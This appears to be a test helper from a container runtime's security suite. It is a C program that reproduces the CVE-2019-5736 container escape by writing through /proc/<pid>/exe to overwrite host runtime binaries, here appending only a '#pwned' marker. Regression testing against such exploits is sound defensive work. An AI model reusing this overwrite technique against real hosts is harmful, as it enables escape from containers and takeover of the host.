/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* exe-attack STOPFILE [DEV:INO]: the CVE-2019-5736 attack, run inside a container
 * with CAP_SYS_PTRACE (security.bats copies it, linked statically, into the
 * rootfs). Until STOPFILE exists it scans /proc over and over; for every
 * other process it tries to open /proc/<pid>/exe for writing (and writes
 * if that works) and keeps an O_PATH fd on it, one per distinct file and
 * mount. Then, once the runtime's processes are gone and ETXTBSY no longer
 * protects the file, it reopens each kept fd for writing through
 * /proc/self/fd/N and appends to it. Prints one line per distinct exe held
 * ("held NAME"), "WROTE NAME" for each successful write, and "done N" with
 * the number of scans. STOPFILE.ready appears after the first scan. The
 * file DEV:INO (st_dev and st_ino, as stat -c %d:%i prints them) is spared:
 * the runtime that runs the attacker's own container. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

struct held {
        int fd;
        unsigned long long dev, ino, mnt;
        char name[256];
};

static struct held held[MAX_HELD];
static int n_held;

static void name_of(int fd, char *buf, size_t len)
{
        char link[64];
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, buf, len - 1);
        buf[n > 0 ? n : 0] = '\0';
}

static void keep(int fd)
{
        struct statx sx;
        if (statx(fd, "", AT_EMPTY_PATH, STATX_INO | STATX_MNT_ID, &sx) < 0) {
                close(fd);
                return;
        }
        unsigned long long dev = ((unsigned long long)sx.stx_dev_major << 32) | sx.stx_dev_minor;
        for (int i = 0; i < n_held; i++)
                if (held[i].dev == dev && held[i].ino == sx.stx_ino && held[i].mnt == sx.stx_mnt_id) {
                        close(fd);
                        return;
                }
        if (n_held == MAX_HELD) {
                close(fd);
                return;
        }
        struct held *h = &held[n_held++];
        h->fd = fd;
        h->dev = dev;
        h->ino = sx.stx_ino;
        h->mnt = sx.stx_mnt_id;
        name_of(fd, h->name, sizeof(h->name));
}

static unsigned long long spare_dev, spare_ino;

static bool spared(int fd)
{
        struct stat st;
        return fstat(fd, &st) == 0 && st.st_dev == spare_dev && st.st_ino == spare_ino;
}

static void attack(const char *pid)
{
        char path[300];
        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0 && spared(fd)) {
                close(fd);
        } else if (fd >= 0) {
                char name[256];
                name_of(fd, name, sizeof(name));
                if (write(fd, "#pwned\n", 7) == 7)
                        printf("WROTE %s (at once, pid %s)\n", name, pid);
                close(fd);
        }
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0)
                keep(fd);
}

int main(int argc, char **argv)
{
        spare_dev = spare_ino = 0;
        if (argc < 2 || argc > 3 || (argc == 3 && sscanf(argv[2], "%llu:%llu", &spare_dev, &spare_ino) != 2)) {
                fprintf(stderr, "usage: exe-attack STOPFILE [DEV:INO]\n");
                return 2;
        }
        setvbuf(stdout, NULL, _IOLBF, 0);
        char self[32];
        snprintf(self, sizeof(self), "%d", (int)getpid());
        struct stat me;
        stat("/proc/self/exe", &me);
        unsigned long scans = 0;
        while (access(argv[1], F_OK) < 0) {
                DIR *d = opendir("/proc");
                if (!d)
                        return 1;
                struct dirent *e;
                while ((e = readdir(d)))
                        if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self))
                                attack(e->d_name);
                closedir(d);
                if (scans++ == 0) {
                        char ready[4096];
                        snprintf(ready, sizeof(ready), "%s.ready", argv[1]);
                        close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
                }
        }
        /* The runtime is gone: the file is no longer busy. A busy one is
         * retried for a while (a runtime process may be exiting; a program
         * the container runs stays busy). */
        for (int t = 0; t < 5; t++) {
                int busy = 0;
                for (int i = 0; i < n_held; i++) {
                        struct held *h = &held[i];
                        struct stat st;
                        if (h->fd < 0)
                                continue;
                        if ((fstat(h->fd, &st) == 0 && st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
                            spared(h->fd))
                                continue;       /* our own binary, or the one to spare */
                        char path[64];
                        snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
                        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                        if (fd < 0 && errno == ETXTBSY && t < 4) {
                                busy++;
                                continue;
                        }
                        printf("held %s\n", h->name);
                        if (fd < 0) {
                                printf("refused %s: %s\n", h->name, strerror(errno));
                        } else {
                                if (write(fd, "#pwned\n", 7) == 7)
                                        printf("WROTE %s\n", h->name);
                                close(fd);
                        }
                        close(h->fd);
                        h->fd = -1;
                }
                if (!busy)
                        break;
                nanosleep(&(struct timespec){ .tv_nsec = 25000000 }, NULL);
        }
        printf("done %lu\n", scans);
        return 0;
}
